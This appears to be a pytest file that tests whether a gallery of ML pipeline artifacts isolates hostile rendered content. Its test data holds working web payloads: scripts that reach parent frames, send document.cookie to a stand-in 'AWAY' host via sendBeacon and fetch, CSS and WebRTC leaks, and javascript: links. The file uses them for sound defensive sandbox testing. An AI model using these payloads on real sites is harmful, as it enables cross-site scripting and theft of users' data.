"""Every form that an output takes, drawn by its own renderer from hostile bytes, in a browser under its policy.

Each form is looked at inside the gallery, tab by tab, and again by itself at its signed address: it shows what it
should, complains of nothing that is ours, and neither it nor a script in it reaches the sink, Airflow, or the page
around.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest
from stack.ports import HOST
from tests.harness.sink import Sink, listening_sink
from tests.harness.specimens import Specimen, drawn, specimens
from tests.harness.waiting import eventually

from belvedere.rendering.isolation.landlock import landlock_abi

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, BrowserContext, Page
    from tests.harness.own_gallery import OwnGallery

pytestmark = pytest.mark.skipif(landlock_abi() == 0, reason="this kernel has no Landlock")

# Nothing tells that an attack has not happened; this is how long one is given to begin.
GRACE_MS = 300
REACH = """
for (const act of [
  () => { top.document.documentElement.dataset.reached = 1 },
  () => { parent.document.documentElement.dataset.reached = 1 },
  () => { top.location.href = "AWAY" },
  () => { parent.location.href = "AWAY" },
  () => { open("AWAY") },
  () => { fetch("AWAY").catch(() => 0); fetch("/belvedere/api/artifacts").catch(() => 0) },
  () => { navigator.sendBeacon("AWAY?" + document.cookie) },
  () => { const f = document.createElement("form"); f.action = "AWAY"; f.method = "post";
          document.body.append(f); f.submit() },
  () => { const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "AWAY"; document.head.append(l) },
  () => { alert(1) },
]) { try { act() } catch (error) {} }
"""
# In frames inside a frame this makes Chromium 156 end the tab (nothing gets out): tried where the page is a user's.
WEBRTC = """
const peer = new RTCPeerConnection({iceServers: [{urls: "stun:SINK"}]});
peer.createDataChannel("x");
peer.createOffer().then(offer => peer.setLocalDescription(offer));
"""
STYLES = (
    "<style>@import 'AWAY.css';@font-face{font-family:x;src:url(AWAY.woff)}"
    "body{font-family:x;background:url(AWAY.png)}input[value^=a]{background:url(AWAY?a)}</style><input value=a>"
)
PAGE = (
    f"<!doctype html><title>r</title><h1>Report</h1>{STYLES}<script>{REACH}</script><img src='AWAY.png' onerror='{{}}'>"
)
SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' viewBox='0 0 90 90'>"
    f"<script>{REACH.replace('<', '&lt;').replace('&', '&amp;')}</script><style>rect{{fill:url(AWAY)}}</style>"
    "<image xlink:href='AWAY.png' width='9' height='9'/><use href='AWAY.svg#x'/><a href='javascript:parent.reached=1'>"
    "<text y='20'>words</text></a><rect onload='parent.reached=1' width='30' height='30'/></svg>"
)


def notebook() -> str:
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": PAGE, "text/plain": "x"}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": SVG}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": REACH}},
    ]
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": f"# Notebook\n{PAGE}\n![x](AWAY.png)"},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "show()", "outputs": outputs},
    ]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})


def vega() -> str:
    plain = {"values": [{"a": 1, "b": 2}, {"a": 2, "b": 1}]}
    encoding = {"x": {"field": "a", "type": "quantitative"}, "y": {"field": "b", "type": "quantitative"}}
    return json.dumps(
        {
            "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
            "title": PAGE,
            "usermeta": {"embedOptions": {"config": "AWAY.json", "loader": {"baseURL": "AWAY"}}},
            "layer": [
                {
                    "data": plain,
                    "mark": "point",
                    "encoding": encoding | {"href": {"value": "javascript:parent.reached=1"}},
                },
                {"data": plain, "mark": {"type": "image", "url": "AWAY.png"}, "encoding": encoding},
            ],
        }
    )


def plotly() -> str:
    layout = {"title": {"text": "<a href='javascript:parent.reached=1'>Plot</a>"}, "images": [{"source": "AWAY.png"}]}
    return json.dumps({"data": [{"type": "scatter", "x": [1, 2], "y": [2, 1], "name": PAGE}], "layout": layout})


def metadata() -> str:
    outputs = [
        {"type": "web-app", "storage": "inline", "source": PAGE},
        {"type": "web-app", "storage": "inline", "source": f'"></iframe><script>{REACH}</script>'},
        {"type": "markdown", "storage": "inline", "source": f"# Note\n{PAGE}\n![x](AWAY.png)"},
    ]
    return json.dumps({"outputs": outputs})


def archive() -> bytes:
    from tests.hostile.pieces import zip_of

    return zip_of(
        {"a.html": PAGE.encode(), "b.svg": SVG.encode(), "c.md": f"# C\n{PAGE}".encode(), "d.csv": b"a,b\n1,2\n"}
    )


FORMS: dict[str, tuple[str, Callable[[], str | bytes]]] = {
    "users_page": ("report.html", lambda: f"{PAGE}<script>{WEBRTC}</script>"),
    "page_in_page": ("mlpipeline-ui-metadata.json", metadata),
    "notebook": ("a.ipynb", notebook),
    "archive": ("a.zip", archive),
    "drawing": ("figure.svg", lambda: SVG),
    "note": ("card.md", lambda: f"# Card\n{PAGE}\n![x](AWAY.png) [y](javascript:parent.reached=1)"),
    "table": ("t.csv", lambda: f'name,value\n"{PAGE}",1\n"<svg onload=parent.reached=1>",2\n'),
    "matrix": ("confusion_matrix.csv", lambda: 'a,a,5\na,"<img src=AWAY.png>",2\n"<img src=AWAY.png>",a,1\n'),
    "chart": ("chart.vl.json", vega),
    "plot": ("chart.plotly.json", plotly),
    "tree": ("data.json", lambda: json.dumps({PAGE: [PAGE, {"a": PAGE}], "b": "x"})),
    "log": ("run.log", lambda: f"\x1b]8;;AWAY\x07link\x1b]8;;\x07 {PAGE}\n" * 3),
    "code": ("a.py", lambda: f"print({PAGE!r})\n"),
    "unknown": ("a.bin", lambda: bytes(range(256)) + PAGE.encode()),
}


# One of each combination of outputs; that every kind's page works is held by tests/integration/rendering.
NAMES = {
    "confusion-matrix-wine-headerless",
    "image-wine-confusion-matrix",
    "table-csv-iris",
    "kfp1-mixed-wine",
    "kfp2-html-digits",
    "tensorboard-digits",
    "notebook-elastic-net",
    "vega-lite-iris",
    "vega_chart",
    "plotly-roc-breast-cancer",
    "coco-instances",
    "zip_archive",
    "pdf_document",
    "wave",
    "unknown_bytes",
}
OF_EVERY_FORM = [specimen for specimen in specimens() if specimen.name in NAMES]


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    with listening_sink() as sink:
        yield sink


@pytest.fixture
def context(browser: Browser, own: OwnGallery) -> Iterator[BrowserContext]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_cookies([{"name": "_token", "value": "the-session", "url": own.url, "httpOnly": False}])
    yield context
    context.close()


def hang(own: OwnGallery, specimen: Specimen, folder: Path) -> str:
    """Render a specimen as the main loop does, and hang it."""
    return own.hang_rendering(f"forms/{specimen.name}/{specimen.key}", drawn(specimen, folder), specimen.content)


def walk_through(page: Page) -> None:
    """Open every tab, and wait until what is in it has come and has had its time."""
    for tab in page.locator("[role=tab]").all():
        tab.click()
        panel = page.locator(f"#{tab.get_attribute('aria-controls')}")
        panel.locator("iframe, img, table, audio, video, p").first.wait_for(state="visible", timeout=15_000)
        page.wait_for_timeout(GRACE_MS)


@pytest.mark.parametrize("form", FORMS)
def test_nothing_in_it_gets_out(
    own: OwnGallery, context: BrowserContext, sink: Sink, tmp_path: Path, form: str
) -> None:
    key, make = FORMS[form]
    made = make()
    away = f"http://{HOST}:{sink.port}/stolen"
    content = (made.encode() if isinstance(made, str) else made).replace(b"AWAY", away.encode())
    content = content.replace(b"SINK", f"{HOST}:{sink.port}".encode())
    artifact = hang(own, Specimen(form, key, content), tmp_path)
    dialogs: list[str] = []
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    address = f"{own.url}/belvedere/artifacts/{artifact}"
    page.goto(address)
    walk_through(page)
    assert page.url.startswith(address)
    assert page.evaluate("[document.documentElement.dataset.reached, window.reached]") == [None, None]
    for output in own.client.get(f"/belvedere/api/artifacts/{artifact}").json()["outputs"]:
        alone = context.new_page()
        alone.goto("about:blank")
        alone.evaluate("href => { location.href = href }", f"{own.url}{output['href']}")
        alone.wait_for_timeout(GRACE_MS)
        alone.close()

    assert dialogs == []
    assert len(context.pages) == 1
    assert sink.heard == []


@pytest.mark.parametrize("specimen", OF_EVERY_FORM, ids=lambda specimen: specimen.name)
def test_it_works_under_its_policy_in_the_gallery(
    own: OwnGallery, context: BrowserContext, specimen: Specimen, tmp_path: Path
) -> None:
    artifact = hang(own, specimen, tmp_path)
    page = context.new_page()
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))

    page.goto(f"{own.url}/belvedere/artifacts/{artifact}")
    walk_through(page)

    frame = eventually(
        lambda: next((f for f in page.frames[1:] if "/preview/" in f.url), page.main_frame), 10.0, what="it"
    )
    assert frame.locator("body").inner_text().strip() or frame.locator("img, svg, iframe, canvas").count()
    users = own.catalog.execute("select outputs from artifacts where id = %s", (artifact,)).fetchone()
    if not any(output.get("active") for output in users["outputs"]):
        assert complaints == []
